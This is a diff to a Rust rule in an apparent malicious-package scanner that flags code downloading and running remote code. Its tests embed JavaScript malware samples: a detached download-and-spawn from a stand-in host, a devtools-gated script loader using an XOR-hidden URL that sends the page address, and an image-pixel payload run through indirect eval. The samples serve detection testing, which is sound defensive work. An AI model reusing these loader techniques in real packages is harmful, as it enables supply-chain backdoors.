@@ -2,7 +2,7 @@
 
 use super::{chain, describe, finding, flow_finding, flows, locality, one_per_sink, per_signal};
 use crate::CodeFinding;
-use crate::flow::{SinkKind, SourceKind, flags};
+use crate::flow::{FlowPath, SinkKind, SourceKind, flags};
 use crate::signal::{Kind, PackageFacts};
 use crate::verdict::Locality;
 use diligence_finding::Severity;
@@ -27,6 +27,10 @@ diligence_finding::declare_rule! {
     /// start-up file, a VS Code task, a CI workflow, a cron or login item), in code built at run time and handed
     /// to `Function`/`eval` (char codes, JSFuck character tables), or in a WebAssembly data segment (plain or XORed
     /// with a one-byte key the code uses) of a file that loads modules by computed name or starts processes.
+    /// In the browser: a page `<script>`/`<iframe>` pointed at a URL decoded at run time (char codes, XOR,
+    /// base64, reversed text) is high, critical when the package also hides from devtools, automation or the
+    /// clock; an image's pixels (`getImageData`) count as received data, so bits read from them, decoded to text
+    /// and evaluated (`(0, eval)(…)`) are a path like a download's.
     ///
     /// ## Why it matters
     /// Remote command execution turns an install into a backdoor (desktop-notify style agents); Shai-Hulud 2.0
@@ -49,6 +53,8 @@ diligence_finding::declare_rule! {
     /// that run the project's own commands, and docs generators write install instructions to Markdown: neither is
     /// a download written to a place that runs it. Code generators calling `Function` by name with template-built
     /// code, and wasm codecs whose data segments name no module and hold no command, are not decoded as hidden code.
+    /// Tag loaders (analytics, consent, chat widgets) point a `<script>` at a URL in the clear, and QR and image
+    /// decoders return the text they read: neither is reported.
     pub static DOWNLOAD_EXEC = { id: "code/download-exec", severity: Severity::High };
 }
 
@@ -90,7 +96,7 @@ fn runs_inline_code(command: &str) -> bool {
 
 /// Whether a path's data is unscrambled between the network and the sink: steps that undo an
 /// obfuscation (not parsing, concatenation or URL decoding, which loaders do).
-fn unscrambled(path: &crate::flow::FlowPath) -> bool {
+fn unscrambled(path: &FlowPath) -> bool {
     path.steps
         .iter()
         .any(|s| super::decode_exec::UNSCRAMBLING.contains(&s.what.as_str()))
@@ -176,14 +182,20 @@ fn paths(p: &PackageFacts) -> Vec<CodeFinding> {
         };
         let hidden = run.flags & (flags::DETACHED | flags::SILENT) != 0;
         // A prebuilt binary fetched from the npm registry itself (esbuild's fallback when its
-        // platform package is missing) has the same trust as the package's own files: the file
-        // builds a registry tarball URL in code (`https://registry.npmjs.org/${pkg}/-/…`); the
-        // registry named in a comment or beside other hosts' URLs lowers nothing. The file's
-        // text is searched only when the download is not verified already.
+        // platform package is missing) has the same trust as the package's own files. When the
+        // download's URL is known, it decides: a registry tarball URL is trusted, any other
+        // host is not, whatever registry URL the file spells elsewhere. When it is built at
+        // run time (`https://registry.npmjs.org/${pkg}/-/…` through a helper's parameter), the
+        // file must build a registry tarball URL in code; one in a comment lowers nothing. The
+        // file's text is searched only when the download is not verified already.
         let trusted = verified
-            || p.file(&path.from.file)
-                .and_then(|f| f.text.as_deref())
-                .is_some_and(builds_registry_tarball_url);
+            || match download_url(path) {
+                Some(url) => is_registry_tarball_url(url),
+                None => p
+                    .file(&path.from.file)
+                    .and_then(|f| f.text.as_deref())
+                    .is_some_and(builds_registry_tarball_url),
+            };
         let sev = match (trusted, hidden) {
             (true, _) => Severity::Low,
             (false, true) => Severity::Critical,
@@ -237,7 +249,9 @@ pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
         ))
     });
     out.extend(per_signal(p, Kind::ShellPipeExec, |f, s| {
-        if f.path == "package.json" {
+        // Lifecycle scripts (the package's own or a bundled dependency's) are judged by
+        // `code/install-script-network`.
+        if crate::scripts::is_manifest(&f.path) {
             return None;
         }
         let msg = format!("download piped into a shell: `{}`", s.detail);
@@ -289,9 +303,70 @@ pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
             chain(p, f, s, &[Kind::Network, Kind::Spawn]),
         ))
     }));
+    out.extend(hidden_script(p));
     let mut all = traced;
     all.append(&mut out);
     all
+}
+
+/// Gates that hide from people and sandboxes (devtools, headless/automation, time).
+const GATES: &[Kind] = &[Kind::DevtoolsGate, Kind::SandboxGate, Kind::TimeGate];
+
+/// A page `<script>` (or `<iframe>`) pointed at a URL the code decodes at run time (char
+/// codes, XOR, base64, reversed text): the browser fetches and runs code from a host the
+/// package does not show. High; critical when the package also hides from devtools,
+/// automation or the clock.
+fn hidden_script(p: &PackageFacts) -> Vec<CodeFinding> {
+    let gated = p.files.iter().any(|f| f.has_any(GATES));
+    let mut out = Vec::new();
+    for path in super::flows(p, &[SourceKind::Decoded], &[SinkKind::Network]) {
+        if !(path.to.what == "<script>.src" || path.to.what == "<iframe>.src")
+            || !path.from.what.contains("://")
+        {
+            continue;
+        }
+        let sev = if gated {
+            Severity::Critical
+        } else {
+            Severity::High
+        };
+        out.push(super::flow_finding(
+            &DOWNLOAD_EXEC,
+            sev,
+            p,
+            path,
+            format!(
+                "page loads a script from a URL decoded at run time{}: {}",
+                if gated {
+                    ", behind an analysis gate"
+                } else {
+                    ""
+                },
+                super::describe(path)
+            ),
+        ));
+    }
+    super::one_per_sink(out)
+}
+
+/// The registry's tarball URL prefix.
+const REGISTRY: &str = "https://registry.npmjs.org/";
+
+/// The download's URL when the analysis knew it at build time: the source of a network
+/// response is described as `response of <client> from <url>`.
+fn download_url(path: &FlowPath) -> Option<&str> {
+    path.from
+        .what
+        .strip_prefix("response of ")
+        .and_then(|w| w.split_once(" from ").map(|(_, url)| url))
+        .filter(|url| url.contains("://"))
+}
+
+/// True when `url` is on `registry.npmjs.org` with the registry's tarball path shape
+/// (`/<name>/-/<file>`).
+fn is_registry_tarball_url(url: &str) -> bool {
+    url.strip_prefix(REGISTRY)
+        .is_some_and(|rest| rest.contains("/-/"))
 }
 
 /// True when a code line of `text` (not a comment) holds a URL on `registry.npmjs.org` with the
@@ -301,8 +376,8 @@ fn builds_registry_tarball_url(text: &str) -> bool {
         .map(str::trim_start)
         .filter(|l| !l.starts_with("//") && !l.starts_with('*') && !l.starts_with("/*"))
         .any(|l| {
-            l.match_indices("https://registry.npmjs.org/")
-                .any(|(at, m)| l[at + m.len()..].contains("/-/"))
+            l.match_indices(REGISTRY)
+                .any(|(at, _)| is_registry_tarball_url(&l[at..]))
         })
 }
 
@@ -656,6 +731,23 @@ async function fetchUpdate({ path, acceptedPath, timestamp }) {
         );
     }
 
+    /// A registry tarball URL spelled in code beside a download from another, known host
+    /// lowers nothing: the download's own URL decides.
+    #[test]
+    fn positive_registry_url_in_code_beside_another_hosts_download() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "install.js",
+                "const MIRROR = 'https://registry.npmjs.org/agent/-/agent-1.0.0.tgz';\nconst https = require('https');\nconst fs = require('fs');\nconst cp = require('child_process');\nhttps.get('https://cdn.example.net/agent', (res) => {\n  const out = fs.createWriteStream('/tmp/agent');\n  res.pipe(out);\n  out.on('finish', () => cp.spawn('/tmp/agent', [], { detached: true, stdio: 'ignore' }).unref());\n});\nmodule.exports = MIRROR;\n",
+            ),
+        ]);
+        assert_eq!(
+            severity(&s, "code/download-exec"),
+            Some(diligence_finding::Severity::Critical)
+        );
+    }
+
     /// A first-run launcher: a binary fetched with `rejectUnauthorized: false` through a
     /// helper, saved, then spawned under another name.
     #[test]
@@ -927,5 +1019,76 @@ async function fetchUpdate({ path, acceptedPath, timestamp }) {
             .collect();
         assert_eq!(sev, vec![diligence_finding::Severity::Low]);
         assert_eq!(s.verdict, crate::Verdict::Clean);
+    }
+
+    /// A loader behind a devtools check that points a `<script>` at a URL XORed into
+    /// integers (the 2018 event-stream / "harvesting" style gated stage).
+    #[test]
+    fn positive_script_from_a_xored_url_behind_a_devtools_gate() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "src/env.js",
+                "const K = 0x5a;\nconst P = [50, 46, 46, 42, 41, 96, 117, 117, 34, 116, 63, 34, 59, 55, 42, 54, 63, 117, 46, 116, 48, 41];\nfunction open() { return window.outerWidth - window.innerWidth > 160; }\nfunction load() {\n  const s = document.createElement('script');\n  s.src = String.fromCharCode.apply(null, P.map((c) => c ^ K)) + '?u=' + encodeURIComponent(location.href);\n  document.head.appendChild(s);\n}\nsetInterval(() => { if (!open()) load(); }, 2000);\n",
+            ),
+        ]);
+        let f = crate::rules::test_util::finding(&s, "code/download-exec");
+        assert_eq!(
+            (f.line, f.severity),
+            (6, diligence_finding::Severity::Critical)
+        );
+        assert_eq!(s.verdict, crate::Verdict::Malicious);
+    }
+
+    /// The benign look-alike: an analytics snippet loads its tag from a URL in the clear.
+    #[test]
+    fn negative_analytics_loader_with_a_plain_url() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "src/ga.js",
+                "export function load(id) {\n  const s = document.createElement('script');\n  s.async = true;\n  s.src = 'https://www.googletagmanager.com/gtag/js?id=' + encodeURIComponent(id);\n  document.head.appendChild(s);\n}\n",
+            ),
+        ]);
+        assert!(
+            hits(&s, "code/download-exec").is_empty(),
+            "{:?}",
+            s.findings
+        );
+    }
+
+    /// A QR "reader" that decodes the bits of an image's pixels to text and runs it reversed
+    /// through indirect eval (the 2025 fezbox technique).
+    #[test]
+    fn positive_image_pixels_decoded_and_evaluated() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "dist/qr.js",
+                "function bits(img) {\n  const c = document.createElement('canvas');\n  const ctx = c.getContext('2d'); ctx.drawImage(img, 0, 0);\n  const px = ctx.getImageData(0, 0, 64, 64).data; const b = [];\n  for (let i = 0; i < px.length; i += 4) b.push(px[i] < 128 ? 1 : 0);\n  return b;\n}\nfunction text(b) {\n  let s = '';\n  for (let i = 0; i + 8 <= b.length; i += 8) s += String.fromCharCode(parseInt(b.slice(i, i + 8).join(''), 2));\n  return s;\n}\nfunction read(url) {\n  return new Promise((resolve) => { const img = new Image(); img.onload = () => resolve(text(bits(img))); img.src = url; });\n}\nsetTimeout(() => read('https://cdn.example.com/demo.png').then((src) => (0, eval)(src.split('').reverse().join(''))), 120000);\nexports.read = read;\n",
+            ),
+        ]);
+        let f = crate::rules::test_util::finding(&s, "code/download-exec");
+        assert_eq!(
+            (f.line, f.severity),
+            (16, diligence_finding::Severity::Critical)
+        );
+    }
+
+    /// The benign look-alike: a QR decoder reads pixels to text and returns it.
+    #[test]
+    fn negative_qr_decoder_returns_text() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "dist/qr.js",
+                "function decode(ctx, w, h) {\n  const px = ctx.getImageData(0, 0, w, h).data; const b = [];\n  for (let i = 0; i < px.length; i += 4) b.push(px[i] < 128 ? 1 : 0);\n  let s = '';\n  for (let i = 0; i + 8 <= b.length; i += 8) s += String.fromCharCode(parseInt(b.slice(i, i + 8).join(''), 2));\n  return s;\n}\nexports.decode = decode;\n",
+            ),
+        ]);
+        assert!(
+            hits(&s, "code/download-exec").is_empty(),
+            "{:?}",
+            s.findings
+        );
     }
 }
